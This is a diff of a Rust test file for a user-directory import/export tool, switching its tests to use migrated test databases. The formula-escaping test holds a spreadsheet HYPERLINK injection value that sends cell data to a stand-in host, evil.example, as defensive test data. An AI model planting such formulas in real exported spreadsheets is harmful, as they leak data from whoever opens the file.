@@ -56,7 +56,7 @@ fn a_directory_comes_back_as_it_was() {
         ..Config::default()
     });
     let outcome = runner.run(&rows(), |rows| {
-        let (first, second) = (TestDatabase::create(), TestDatabase::create());
+        let (first, second) = (TestDatabase::migrated(), TestDatabase::migrated());
         import(&first, lines(&rows), &[]).well();
         let written = export(&first, &[]);
         // All that was given is there, with nothing but defaults beside it.
@@ -80,7 +80,7 @@ fn a_directory_comes_back_as_it_was() {
 
 #[test]
 fn a_table_of_users_comes_back_too() {
-    let (first, second) = (TestDatabase::create(), TestDatabase::create());
+    let (first, second) = (TestDatabase::migrated(), TestDatabase::migrated());
     let rows = lines(&[
         json!({"kind": "roles", "name": "a;b"}),
         json!({"kind": "roles", "name": "plain"}),
@@ -97,7 +97,7 @@ fn a_table_of_users_comes_back_too() {
 
 #[test]
 fn hashes_of_passwords_are_written_only_when_asked_for() {
-    let (first, second) = (TestDatabase::create(), TestDatabase::create());
+    let (first, second) = (TestDatabase::migrated(), TestDatabase::migrated());
     run(&first, &["user", "add", "calvin"]).well();
     assert!(!export(&first, &[]).out.contains("argon2"));
     let with = export(&first, &["--with-password-hashes"]).out;
@@ -108,7 +108,7 @@ fn hashes_of_passwords_are_written_only_when_asked_for() {
 
 #[test]
 fn a_generated_directory_is_the_same_from_the_same_seed_and_comes_back() {
-    let (first, second) = (TestDatabase::create(), TestDatabase::create());
+    let (first, second) = (TestDatabase::migrated(), TestDatabase::migrated());
     run(&first, &["generate", "--users", "400", "--seed", "7"]).well();
     let text = run(
         &first,
@@ -134,7 +134,7 @@ fn a_generated_directory_is_the_same_from_the_same_seed_and_comes_back() {
 
 #[test]
 fn a_table_holds_no_formulas_and_comes_back_as_it_was() {
-    let (first, second) = (TestDatabase::create(), TestDatabase::create());
+    let (first, second) = (TestDatabase::migrated(), TestDatabase::migrated());
     let texts = [
         "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
         "+49 30 901820",
